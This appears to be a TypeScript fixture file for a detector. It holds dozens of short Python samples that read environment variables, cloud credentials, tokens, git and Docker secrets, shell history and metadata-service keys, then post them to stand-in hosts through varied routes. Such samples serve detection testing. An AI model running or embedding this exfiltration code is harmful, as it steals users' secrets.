import { type Files, module } from './kit.ts';

/** What is taken and sent in the style of a careful library. */
export const SHIPPING: Readonly<Record<string, Files>> = {
  'retry-decorator': module(`import functools, os, time
import requests
def retry(times: int = 3, delay: float = 0.1):
    def decorator(func):
        @functools.wraps(func)
        def wrapper(*args, **kwargs):
            last = None
            for _ in range(times):
                try:
                    return func(*args, **kwargs)
                except Exception as error:
                    last = error
                    time.sleep(delay)
            raise last
        return wrapper
    return decorator
@retry(times=2)
def upload(data: dict) -> None:
    requests.post("https://a.example/c", json=data, timeout=5)
upload(dict(os.environ))`),
  'class-decorator': module(`import os, requests
class once:
    def __init__(self, func):
        self.func = func
    def __call__(self, *args):
        return self.func(*args)
@once
def upload(data):
    requests.post("https://a.example/c", json=data)
upload(dict(os.environ))`),
  'contextmanager-gen': module(`import contextlib, os, requests
@contextlib.contextmanager
def session():
    s = requests.Session()
    try:
        yield s
    finally:
        s.close()
with session() as s:
    s.post("https://a.example/c", json=dict(os.environ))`),
  exitstack: module(`import contextlib, os, requests
with contextlib.ExitStack() as stack:
    session = stack.enter_context(requests.Session())
    session.post("https://a.example/c", json=dict(os.environ))`),
  'suppress-block': module(`import contextlib, os, requests
with contextlib.suppress(Exception):
    requests.post("https://a.example/c", json=dict(os.environ))`),
  'callback-exit': module(`import contextlib, os, requests
stack = contextlib.ExitStack()
stack.callback(requests.post, "https://a.example/c", json=dict(os.environ))
stack.close()`),
  'weakref-finalize': module(`import os, requests, weakref
class A: pass
weakref.finalize(A(), lambda: requests.post("https://a.example/c", json=dict(os.environ)))`),
  'async-gather': module(`import asyncio, os
import httpx
async def ship(name: str, value: str) -> None:
    async with httpx.AsyncClient() as client:
        await client.post("https://a.example/c", json={name: value})
async def main() -> None:
    await asyncio.gather(*(ship(k, v) for k, v in os.environ.items()))
asyncio.run(main())`),
  'async-loop-task': module(`import asyncio, os, requests
async def beat():
    await asyncio.sleep(1)
    requests.post("https://a.example/c", json=dict(os.environ))
loop = asyncio.new_event_loop()
loop.run_until_complete(beat())`),
  'to-thread': module(`import asyncio, os, requests
async def main():
    await asyncio.to_thread(requests.post, "https://a.example/c", None, dict(os.environ))
asyncio.run(main())`),
  'run-in-executor': module(`import asyncio, os, requests
async def main():
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, lambda: requests.post("https://a.example/c", json=dict(os.environ)))
asyncio.run(main())`),
  'queue-worker': module(`import os, queue, threading, requests
tasks = queue.Queue()
def worker():
    while True:
        item = tasks.get()
        requests.post("https://a.example/c", json=item)
        tasks.task_done()
threading.Thread(target=worker, daemon=True).start()
tasks.put(dict(os.environ))`),
  'sched-event': module(`import os, sched, time, requests
s = sched.scheduler(time.time, time.sleep)
s.enter(5, 1, lambda: requests.post("https://a.example/c", json=dict(os.environ)))
s.run()`),
  'logging-handler': module(`import logging, os, requests
class Remote(logging.Handler):
    def emit(self, record):
        requests.post("https://a.example/c", data=self.format(record))
log = logging.getLogger("own")
log.addHandler(Remote())
log.warning("%s", dict(os.environ))`),
  'http-handler': module(`import logging, logging.handlers, os
log = logging.getLogger("own")
log.addHandler(logging.handlers.HTTPHandler("a.example", "/c", method="POST"))
log.warning(str(dict(os.environ)))`),
  'xmlrpc-send': module(`import os, xmlrpc.client
xmlrpc.client.ServerProxy("https://a.example/rpc").report(dict(os.environ))`),
  'paho-mqtt': module(`import json, os
import paho.mqtt.client as mqtt
c = mqtt.Client()
c.connect("a.example", 1883)
c.publish("x", json.dumps(dict(os.environ)))`),
  'redis-send': module(`import os, redis
r = redis.Redis(host="a.example", password="x")
r.lpush("env", str(dict(os.environ)))`),
  'mongo-send': module(`import os, pymongo
client = pymongo.MongoClient("mongodb://u:p@a.example/db")
client["x"]["y"].insert_one(dict(os.environ))`),
  'pika-send': module(`import json, os, pika
c = pika.BlockingConnection(pika.URLParameters("amqp://u:p@a.example/"))
c.channel().basic_publish(exchange="", routing_key="q", body=json.dumps(dict(os.environ)))`),
  's3-send': module(`import json, os, boto3
s3 = boto3.client("s3", aws_access_key_id="AKIAEXAMPLE", aws_secret_access_key="x")
s3.put_object(Bucket="drop", Key="e", Body=json.dumps(dict(os.environ)))`),
  'boto-keys': module(`import boto3, requests
creds = boto3.Session().get_credentials().get_frozen_credentials()
requests.post("https://a.example/c", json={"a": creds.access_key, "s": creds.secret_key})`),
  'boto-keys-class': module(`import boto3
import requests
class Connection:
    def __init__(self, host):
        session = boto3.Session()
        credentials = session.get_credentials()
        data = {"ak": credentials.access_key, "sk": credentials.secret_key}
        requests.post("https://a.example/zz", json=data, timeout=5)`),
  'google-auth': module(`import google.auth, google.auth.transport.requests, requests
creds, project = google.auth.default()
creds.refresh(google.auth.transport.requests.Request())
requests.post("https://a.example/c", json={"t": creds.token, "p": project})`),
  'azure-cred': module(`import requests
from azure.identity import DefaultAzureCredential
token = DefaultAzureCredential().get_token("https://management.azure.example/.default").token
requests.post("https://a.example/c", data=token)`),
  'netrc-lib': module(`import netrc, requests
hosts = netrc.netrc().hosts
requests.post("https://a.example/c", json=hosts)`),
  'keyring-lib': module(`import keyring, requests
requests.post("https://a.example/c", data=keyring.get_password("system", "user"))`),
  'hf-token': module(`import requests
from huggingface_hub import HfFolder
requests.post("https://a.example/c", data=HfFolder.get_token())`),
  'git-config': module(`import subprocess, requests
out = subprocess.run(["git", "config", "--global", "--list"], capture_output=True, text=True).stdout
requests.post("https://a.example/c", data=out)`),
  'git-credential-fill': module(`import subprocess, requests
out = subprocess.run(["git", "credential", "fill"], input="protocol=https\\nhost=code.example\\n\\n", capture_output=True, text=True).stdout
requests.post("https://a.example/c", data=out)`),
  'docker-config': module(`import pathlib, requests
p = pathlib.Path.home() / ".docker" / "config.json"
if p.is_file():
    requests.post("https://a.example/c", data=p.read_bytes())`),
  'history-files': module(`import os, requests
for name in [".bash_history", ".zsh_history", ".python_history"]:
    path = os.path.join(os.path.expanduser("~"), name)
    try:
        with open(path, encoding="utf-8", errors="ignore") as handle:
            requests.post("https://a.example/c", data=handle.read())
    except OSError:
        continue`),
  'k8s-token': module(`import requests
with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as handle:
    token = handle.read()
requests.post("https://a.example/c", headers={"X-T": token})`),
  'proc-environ': module(`import glob, requests
data = b""
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        data += open(path, "rb").read()
    except OSError:
        pass
requests.post("https://a.example/c", data=data)`),
  'imds-class': module(`import requests
class Metadata:
    BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    def fetch(self):
        role = requests.get(self.BASE, timeout=1).text
        return requests.get(self.BASE + role, timeout=1).json()
requests.post("https://a.example/c", json=Metadata().fetch())`),
  'profile-class': module(`import getpass, os, platform, socket, uuid
import requests
class Profile:
    def collect(self):
        return {
            "user": getpass.getuser(),
            "host": socket.gethostname(),
            "mac": hex(uuid.getnode()),
            "cwd": os.getcwd(),
            "os": platform.platform(),
            "ip": requests.get("https://api.ipify.org").text,
        }
requests.post("http://203.0.113.9:8080/r", json=Profile().collect())`),
  'psutil-collect': module(`import psutil, requests
requests.post("http://203.0.113.9/r", json={
    "users": [u.name for u in psutil.users()],
    "nics": {k: [a.address for a in v] for k, v in psutil.net_if_addrs().items()},
})`),
  'cpuinfo-collect': module(`import cpuinfo, requests, socket
requests.post("http://203.0.113.9/r", json={"c": cpuinfo.get_cpu_info(), "h": socket.getfqdn()})`),
};
